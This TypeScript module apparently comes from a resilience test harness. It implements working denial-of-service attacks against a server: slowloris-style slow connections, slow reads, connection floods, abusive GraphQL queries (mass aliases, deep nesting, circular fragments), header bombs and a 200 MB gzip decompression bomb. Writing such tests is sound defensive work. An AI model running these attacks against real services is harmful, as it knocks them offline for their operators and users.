import net from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';

export interface Target {
  readonly host: string;
  readonly port: number;
  /** Of an account that is the attacker's own. */
  readonly token: string;
}

/** @param hit is called for each connection or request that was made. */
export type Attack = (target: Target, hit: () => void) => Promise<void>;

/** Another address than that of the honest caller. */
const ATTACKERS_ADDRESS = '127.0.0.2';
const SLOW_CONNECTIONS = 400;
const FLOOD_CONNECTIONS = 2_000;
const PARALLEL_REQUESTS = 8;

const INGEST = '/server/incoming_data';
const BIG_BODY = `{"a":"${'x'.repeat(1_000_000)}"}`;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'slow headers': slowly(SLOW_CONNECTIONS, () => 'GET / HTTP/1.1\r\nHost: a\r\n', 'X-A: b\r\n'),
  'slow bodies': slowly(
    SLOW_CONNECTIONS,
    ({ token }) => head(INGEST, { 'CL-X-TOKEN': token, 'Content-Length': '100000' }),
    '{',
  ),
  'slow reads': slowReads,
  'connections that say nothing': slowly(FLOOD_CONNECTIONS, () => '', ''),
  '10,000 aliases': graphql(`{ ${Array.from({ length: 10_000 }, (_, index) => `a${index}: __typename`).join(' ')} }`),
  'depth 100': graphql(`{ account(id: "x") ${'{ destinations { account '.repeat(50)} { id } ${'} }'.repeat(50)} }`),
  'a query of 1 MB': graphql(`{ account(id: "${'x'.repeat(1_000_000)}") { id } }`),
  'fragments in a circle': graphql(
    '{ account(id: "x") { ...A } } fragment A on Account { ...B } fragment B on Account { ...A }',
  ),
  'header bombs': requests(({ token }) =>
    head(INGEST, { 'CL-X-TOKEN': token, 'X-Bomb': 'x'.repeat(100_000), 'Content-Length': '0' }),
  ),
  'thousands of headers': requests(({ token }) =>
    head(INGEST, {
      ...Object.fromEntries(Array.from({ length: 3_000 }, (_, index) => [`x-${index}`, '1'])),
      'CL-X-TOKEN': token,
    }),
  ),
  'wrong charsets': requests(({ token }) =>
    post(INGEST, { 'CL-X-TOKEN': token, 'Content-Type': 'application/json; charset=utf-7' }, Buffer.from(BIG_BODY)),
  ),
  'compressed bombs': requests(({ token }) =>
    post(INGEST, { 'CL-X-TOKEN': token, 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' }, BOMB),
  ),
  'wrong tokens': requests(() =>
    post(INGEST, { 'CL-X-TOKEN': crypto.randomUUID(), 'Content-Type': 'application/json' }, Buffer.from('{}')),
  ),
};

const BOMB = gzipSync(Buffer.alloc(200 * 1_048_576));

/** Keeps so many connections open, each of which says a little every second. */
function slowly(connections: number, begin: (target: Target) => string, more: string): Attack {
  return async (target, hit) => {
    const keepOne = async (): Promise<void> => {
      for (;;) {
        const socket = await connect(target, hit);
        socket.write(begin(target));
        while (!socket.destroyed) {
          await setTimeout(1_000);
          socket.write(more);
        }
      }
    };
    await Promise.all(Array.from({ length: connections }, keepOne));
  };
}

/** Asks for the largest answer there is, and takes a few bytes of it every second. */
async function slowReads(target: Target, hit: () => void): Promise<void> {
  const query = graphqlRequest(
    '{ __schema { types { name description fields { name description args { name description } } } } }',
    target,
  );
  const keepOne = async (): Promise<void> => {
    for (;;) {
      const socket = await connect(target, hit);
      socket.pause();
      for (let asked = 0; asked < 50; asked += 1) {
        socket.write(query);
      }
      while (!socket.destroyed) {
        await setTimeout(1_000);
        socket.read(16);
      }
    }
  };
  await Promise.all(Array.from({ length: SLOW_CONNECTIONS }, keepOne));
}

function graphql(query: string): Attack {
  return requests((target) => graphqlRequest(query, target));
}

function graphqlRequest(query: string, { token }: Target): Buffer {
  return post(
    '/graphql',
    { 'CL-X-TOKEN': token, 'Content-Type': 'application/json' },
    Buffer.from(JSON.stringify({ query })),
  );
}

/** One request after the other, on several connections at once, as fast as they are answered. */
function requests(make: (target: Target) => string | Buffer): Attack {
  return async (target, hit) => {
    const request = make(target);
    const sendOn = async (): Promise<void> => {
      for (;;) {
        const socket = await connect(target, () => {});
        socket.write(request);
        hit();
        await new Promise((resolve) => socket.once('data', resolve).once('close', resolve));
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: PARALLEL_REQUESTS }, sendOn));
  };
}

function head(path: string, headers: Readonly<Record<string, string>>): string {
  const lines = Object.entries({ Host: 'a', 'Content-Type': 'application/json', ...headers }).map((pair) =>
    pair.join(': '),
  );
  return [`POST ${path} HTTP/1.1`, ...lines, '', ''].join('\r\n');
}

function post(path: string, headers: Readonly<Record<string, string>>, body: Buffer): Buffer {
  return Buffer.concat([Buffer.from(head(path, { ...headers, 'Content-Length': String(body.length) })), body]);
}

/** Tries until it is let in. */
async function connect({ host, port }: Target, hit: () => void): Promise<net.Socket> {
  for (;;) {
    const socket = net.connect({ host, port, localAddress: ATTACKERS_ADDRESS });
    socket.on('error', () => {});
    const isOpen = await new Promise<boolean>((resolve) => {
      socket.once('connect', () => resolve(true)).once('close', () => resolve(false));
    });
    if (isOpen) {
      hit();
      return socket;
    }
    await setTimeout(50);
  }
}
